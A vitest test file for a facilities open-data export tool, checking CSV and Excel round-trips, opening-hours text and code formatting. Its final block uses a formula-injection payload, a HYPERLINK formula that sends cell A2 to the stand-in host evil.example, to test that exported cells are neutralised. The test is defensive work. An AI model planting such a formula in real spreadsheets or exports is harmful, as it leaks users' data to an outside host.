import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { loadFacilities } from '../../../src/lib/data/facilities.ts';
import { loadDistrict } from '../../../src/lib/data/regions.ts';
import { importFile } from '../../../src/lib/import/index.ts';
import { TEMPLATE_HEADERS } from '../../../src/lib/import/template.ts';
import { facilitiesCsv, holidayText, hoursText } from '../../../src/lib/open-data/csv.ts';
import { facilitiesXlsx } from '../../../src/lib/open-data/xlsx.ts';
import { Facility } from '../../../src/schemas/facility.ts';
import { OpeningHours } from '../../../src/schemas/hours.ts';
import { parseHoursText } from '../../../src/lib/hours/parse-text.ts';

const district = loadDistrict();

async function reimport(content: string | Buffer, name = 'export.csv') {
  const dir = mkdtempSync(join(tmpdir(), 'oh-csv-'));
  const path = join(dir, name);
  writeFileSync(path, content);
  return { path, ...(await importFile(path)) };
}

describe('the CSV download', () => {
  test('starts with a byte-order mark and the import template headers, in order', async () => {
    const csv = facilitiesCsv(await loadFacilities(), district);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\n')[0]).toBe(TEMPLATE_HEADERS.join(','));
  });

  test('re-imports to the same facilities, with no rejected row and no warning beyond the cells the source could not read either; coordinates come back as WGS-84, the system they are written in', async () => {
    const facilities = await loadFacilities();
    const { path, facilities: back, report } = await reimport(facilitiesCsv(facilities, district));
    expect(readFileSync(path).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(report.rejected).toEqual([]);
    // The sample's one canteen with hours “看情况”, phone “找村委会” and no 核实日期, written back as it was.
    expect(report.warnings.map((w) => w.field)).toEqual(['联系电话', '开放时间', '核实日期']);
    expect(back.length).toBe(facilities.length);
    const byId = new Map(back.map((f) => [f.id, f]));
    for (const f of facilities) expect(byId.get(f.id), f.id).toEqual({ ...f, sourceCrs: 'wgs84' });
  });

  test('a record without the source text gets hours written from its periods that parse back to the same periods', async () => {
    const [first] = await loadFacilities();
    if (!first) throw new Error('no facilities');
    const hours = OpeningHours.parse({
      periods: [
        { days: [1, 2, 3], open: '11:00', close: '12:30', meal: 'lunch' },
        { days: [1, 2, 3], open: '16:30', close: '17:30', meal: 'supper' },
        { days: [6], open: '07:00', close: '08:30', meal: 'breakfast' },
      ],
      publicHolidays: 'closed',
      adjustedWorkdays: 'calendar',
      text: '',
    });
    const text = hoursText(hours);
    expect(text).toBe('周一、周二、周三 午餐 11:00-12:30，晚餐 16:30-17:30；周六 早餐 07:00-08:30');
    const parsed = parseHoursText(text);
    expect(parsed.ok && parsed.hours.periods).toEqual(hours.periods);

    const facility = Facility.parse({ ...first, id: 'canteen-roundtrip', type: 'canteen', hours, canteen: { meals: ['breakfast', 'lunch', 'supper'], tierPrices: [], delivery: null } });
    const { facilities: back, report } = await reimport(facilitiesCsv([facility], district));
    expect(report.rejected).toEqual([]);
    expect(back[0]?.hours.periods).toEqual(hours.periods);
    expect(back[0]?.hours.publicHolidays).toBe('closed');
    expect(back[0]?.hours.adjustedWorkdays).toBe('calendar');
  });

  test('writes the holiday rules in the words the importer reads', () => {
    const base = { periods: [], text: '' };
    expect(holidayText(OpeningHours.parse({ ...base, publicHolidays: 'closed' }))).toBe('节假日休息');
    expect(holidayText(OpeningHours.parse({ ...base, publicHolidays: 'open', adjustedWorkdays: 'calendar' }))).toBe('节假日照常，调休日按实际星期');
    expect(holidayText(OpeningHours.parse({ ...base, publicHolidays: 'unknown' }))).toBe('');
  });
});

describe('the Excel download', () => {
  test('stores the 12-digit village codes and the street codes as text cells, so Excel never shows 3.30304E+11', async () => {
    const { readSheet } = await import('read-excel-file/node');
    const rows = await readSheet(await facilitiesXlsx(await loadFacilities(), district));
    const header = rows[0]?.map(String) ?? [];
    expect(header).toEqual(TEMPLATE_HEADERS);
    const community = header.indexOf('村社代码');
    const town = header.indexOf('街道代码');
    const body = rows.slice(1);
    const withCode = body.filter((r) => r[community] !== null);
    expect(withCode.length).toBeGreaterThan(0);
    for (const row of withCode) expect(row[community]).toMatch(/^\d{12}$/);
    for (const row of body) expect(row[town]).toMatch(/^\d{9}$/);
  });

  test('re-imports to the same facilities as the CSV, with no rejected row and no warning beyond the cells the source could not read either', async () => {
    const facilities = await loadFacilities();
    const { facilities: back, report } = await reimport(await facilitiesXlsx(facilities, district), 'export.xlsx');
    expect(report.rejected).toEqual([]);
    // The sample's one canteen with hours “看情况”, phone “找村委会” and no 核实日期, written back as it was.
    expect(report.warnings.map((w) => w.field)).toEqual(['联系电话', '开放时间', '核实日期']);
    const byId = new Map(back.map((f) => [f.id, f]));
    expect(back.length).toBe(facilities.length);
    for (const f of facilities) expect(byId.get(f.id), f.id).toEqual({ ...f, sourceCrs: 'wgs84' });
  });
});

describe('the CSV download opened in a spreadsheet', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';

  test('neutralises cells that begin like a formula (=, +, -, @, tab, CR) with a leading apostrophe, and keeps codes and phones readable', async () => {
    const [first] = await loadFacilities();
    if (!first) throw new Error('no facility');
    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注', operator: '@运营', source: '\t来源', address: '\r地址' });
    const csv = facilitiesCsv([f], district);
    const [, row = ''] = csv.split('\n');
    // csv-stringify quotes a cell holding quotes or line breaks, doubling its quotes.
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""点此查看"")"`);
    for (const cell of ["'+86 577 8800 1234", "'-备注", "'@运营"]) expect(row).toContain(cell);
    expect(row).toContain(`,${f.region.townCode},`);
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
  });

  test('re-imports a neutralised cell as it was', async () => {
    const [first] = await loadFacilities();
    if (!first) throw new Error('no facility');
    const f = Facility.parse({ ...first, name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
    const { facilities } = await reimport(facilitiesCsv([f], district));
    expect(facilities[0]).toMatchObject({ name: HOSTILE, phones: ['+86 577 8800 1234'], notes: '-备注' });
  });
});
